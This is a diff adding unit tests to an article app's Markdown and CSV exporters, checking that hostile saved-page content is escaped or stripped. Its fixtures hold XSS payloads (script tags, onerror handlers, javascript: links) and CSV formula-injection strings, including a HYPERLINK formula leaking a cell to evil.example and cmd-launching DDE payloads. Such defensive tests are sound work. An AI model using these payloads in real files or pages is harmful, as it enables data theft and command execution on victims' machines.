@@ -20,6 +20,8 @@ import { saveArticle } from '@/utils/storage/save-article';
 import { parseBookmarksHtml } from '@/utils/data/import/parse-bookmarks-html';
 import Papa from 'papaparse';
 import { extracted, seedLibrary } from '../../../helpers/seed-library';
+import { makeRow } from '../../../helpers/make-article';
+import type { Article } from '@/utils/article';
 
 const win = new JSDOM('').window as unknown as Window & typeof globalThis;
 /** A real 1×1 PNG (EPUBCheck inspects image headers). */
@@ -119,6 +121,43 @@ describe('Markdown export', () => {
   });
 });
 
+describe('Markdown export of hostile content', () => {
+  const article = (over: Partial<Article> = {}) => ({ ...makeRow(7), ...over });
+  it('escapes text that looks like HTML: &lt;script&gt; in the article stays text, never a raw tag', () => {
+    const md = articleToMarkdown(
+      article(),
+      '<p>Write &lt;script&gt;alert(1)&lt;/script&gt; to test.</p>',
+      new Map(),
+      win,
+    );
+    expect(md).not.toMatch(/(^|[^\\])<script/i); // only the escaped form, which Markdown shows as text
+    expect(md).toContain('\\<script\\>alert(1)\\</script\\>');
+  });
+  it('flattens a title with line breaks into one escaped heading line (no injected markup or front matter)', () => {
+    const md = articleToMarkdown(
+      article({ title: 'Nice title\n---\n<img src=x onerror=alert(1)>\n# Fake' }),
+      '<p>Body</p>',
+      new Map(),
+      win,
+    );
+    const heading = md.split('\n').find((l) => l.startsWith('# '))!;
+    expect(heading).toBe('# Nice title --- \\<img src=x onerror=alert(1)\\> # Fake');
+    expect(md.split('\n').filter((l) => l === '---')).toHaveLength(2); // only the front matter's own
+    expect(md).not.toMatch(/^<img/m);
+  });
+  it('sanitizes before converting: script URLs and handlers never reach the .md', () => {
+    const md = articleToMarkdown(
+      article(),
+      '<p><a href="javascript:alert(1)">click</a> and <a href="https://ok.example/">fine</a></p><img src="x" onerror="alert(1)"><script>alert(2)</script>',
+      new Map(),
+      win,
+    );
+    expect(md).not.toMatch(/javascript:|onerror|alert\(2\)/);
+    expect(md).toContain('click');
+    expect(md).toContain('[fine](https://ok.example/)');
+  });
+});
+
 describe('bookmarks and CSV of the list', () => {
   it('writes a bookmarks file that our own importer (and browsers) read back with tags', async () => {
     const list = await db.articles.toArray();
@@ -148,5 +187,19 @@ describe('bookmarks and CSV of the list', () => {
       status: 'unread',
     });
     expect(rows[0]).toMatchObject({ tags: 'news|t1', progress: '0.42', favorite: 'yes' });
+  });
+  it('escapes formulae: a title, byline or tag from a saved page never becomes a live spreadsheet cell', () => {
+    const row = (over: Partial<Article>) => ({ ...makeRow(9), ...over });
+    const csv = articlesToCsv([
+      row({ title: '=HYPERLINK("https://evil.example/?"&A1,"Click")', byline: "@SUM(1+1)*cmd|' /C calc'!A0" }),
+      row({ title: "+cmd|' /C notepad'!A0", tags: ['-2+3', 'fine'], byline: '\t=1+1' }),
+    ]);
+    const rows = Papa.parse<Record<string, string>>(csv, { header: true }).data;
+    // Every cell that a spreadsheet would evaluate starts with a quote mark instead (papaparse escapeFormulae).
+    for (const cell of rows.flatMap((r) => [r.title, r.byline, r.tags])) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows[0].title).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
+    expect(rows[1].tags).toBe("'-2+3|fine");
+    // Plain values are untouched.
+    expect(rows[0].url).toBe('https://example.com/9');
   });
 });
